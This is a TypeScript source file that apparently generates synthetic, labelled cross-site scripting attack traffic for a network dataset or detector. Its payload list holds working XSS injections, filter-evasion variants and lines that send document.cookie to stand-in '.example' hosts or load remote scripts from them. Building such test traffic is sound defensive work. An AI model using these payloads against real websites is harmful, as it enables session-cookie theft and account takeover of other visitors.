// generate: script text that is to run in another visitor's page: reflected and stored, tags, events, encodings.
import { encodeText, encodings, ordinaryExchange } from '../app/web-pages.ts';
import type { Random } from '../random.ts';
import { attackOn, type PlanBehaviour } from './behaviour.ts';
import { type Place, pickVerdict, placeText, webAttackSeries } from './web-attack.ts';

const places = [
  'query',
  'query',
  'query',
  'body',
  'body',
  'multipart',
  'json',
  'path',
  'cookie',
  'referer',
  'agent',
] as const;
const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
] as const;
const tags = ['img', 'svg', 'body', 'iframe', 'details', 'input', 'video', 'a', 'object', 'marquee', 'button'] as const;

export const planCrossSiteScripting: PlanBehaviour = (context) => {
  const { random } = context;
  const place: Place = random.pick(places);
  const encoding = random.pick(encodings);
  const verdict = pickVerdict(random);
  const stored = place === 'body' && random.chance(0.5);
  return attackOn(
    'Web Attack - XSS',
    context,
    webAttackSeries(context, {
      ...{ median: 90, largest: 500 },
      make: (number, chance, campaign) => {
        // What was stored is looked at afterwards.
        if (stored && campaign.perConnection > 1 && number % 2 === 1) return ordinaryExchange(number, chance, campaign);
        const text = script(chance);
        const plain = place === 'json' || place === 'agent' || place === 'referer' || place === 'multipart';
        return {
          ...placeText(plain ? text : encodeText(text, encoding, chance), place, chance),
          answer: verdict(chance),
        };
      },
    }),
  );
};

function script(random: Random): string {
  const action = random.pick([
    'alert(1)',
    "alert('XSS')",
    'alert(document.cookie)',
    'prompt(1)',
    'confirm`1`',
    `document.location='http://${random.text(6)}.example/c?'+document.cookie`,
    `new Image().src='http://${random.text(6)}.example/'+document.cookie`,
    `eval(atob('${random.text(24)}'))`,
    `console.log('${random.text(10)}')`,
    `String.fromCharCode(88,83,83)`,
  ]);
  const opening = random.pick(['', '', '">', "'>", '"/>', '</title>', '--!>', `${random.text(5)}"`]);
  const tag = random.pick(tags);
  const event = random.pick(events);
  const mixed = (text: string): string =>
    random.chance(0.25) ? [...text].map((c) => (random.chance(0.5) ? c.toUpperCase() : c)).join('') : text;
  return (
    opening +
    random.pick([
      `<${mixed('script')}>${action}</${mixed('script')}>`,
      `<${mixed('script')}>${action}</${mixed('script')}>`,
      `<${mixed('script')} src=//${random.text(7)}.example/${random.text(3)}.js></script>`,
      `<${mixed(tag)} src=${random.pick(['x', '1', '"javascript:void"'])} ${mixed(event)}=${action}>`,
      `<${mixed(tag)}/${mixed(event)}="${action}"/>`,
      `<${mixed(tag)} href="${mixed('javascript')}:${action}">${random.text(4)}</${tag}>`,
      `" ${mixed(event)}="${action}" ${random.text(2)}="`,
      `${mixed('javascript')}:${action}//`,
      `<scr<script>ipt>${action}</scr</script>ipt>`,
      `<img src=x ${event}=&#97;&#108;&#101;&#114;&#116;(1)>`,
      `';${action};//`,
      `{{constructor.constructor('${random.text(3)}')()}}<!--${random.text(4)}-->`,
    ])
  );
}
